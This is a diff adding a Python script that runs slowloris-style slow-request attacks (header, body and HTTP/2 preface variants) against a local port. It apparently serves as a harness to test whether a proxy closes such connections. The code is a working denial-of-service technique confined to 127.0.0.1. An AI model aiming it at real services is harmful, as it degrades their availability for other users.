@@ -1,0 +1,64 @@
+#!/usr/bin/env python3
+"""Holds N slow connections open to 127.0.0.1:PORT for SECONDS, each of one KIND of attack:
+
+  header   a request head that never ends: one more header byte every 2 s (classic slowloris)
+  body     a whole head announcing a 1,000-byte body, then one body byte every 2 s
+  preface  the first 16 bytes of the HTTP/2 preface, then nothing
+
+Prints `open N` once every connection is open (SECONDS count from then) and `closed-by-peer C`
+at the end (connections the proxy closed before the run ended). Bounded: every connect has a
+timeout and the run ends SECONDS after the last connection opened; every socket is closed.
+
+usage: slowloris.py PORT N SECONDS KIND
+"""
+import socket
+import sys
+import time
+
+FIRST = {
+    "header": b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ",
+    "body": b"POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 1000\r\n\r\n",
+    "preface": b"PRI * HTTP/2.0\r\n",
+}
+TRICKLE = {"header": b"a", "body": b"a", "preface": None}
+EVERY = 2.0
+
+
+def main():
+    port, n, seconds, kind = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3]), sys.argv[4]
+    if kind not in FIRST:
+        sys.exit(f"unknown kind {kind!r}: one of {', '.join(FIRST)}")
+    conns = []
+    try:
+        for _ in range(n):
+            s = socket.create_connection(("127.0.0.1", port), timeout=5)
+            s.sendall(FIRST[kind])
+            s.setblocking(False)
+            conns.append(s)
+        print(f"open {len(conns)}", flush=True)
+        start = time.monotonic()
+        closed = set()
+        # Connection k trickles at start + k * EVERY / n + j * EVERY: spread evenly, never a burst.
+        slot = 0
+        while time.monotonic() - start < seconds:
+            due = start + slot * EVERY / n
+            now = time.monotonic()
+            if due > now:
+                time.sleep(min(due - now, 0.05))
+                continue
+            k = slot % n
+            slot += 1
+            if k in closed or TRICKLE[kind] is None:
+                continue
+            try:
+                conns[k].send(TRICKLE[kind])
+            except OSError:
+                closed.add(k)
+        print(f"closed-by-peer {len(closed)}", flush=True)
+    finally:
+        for s in conns:
+            s.close()
+
+
+if __name__ == "__main__":
+    main()
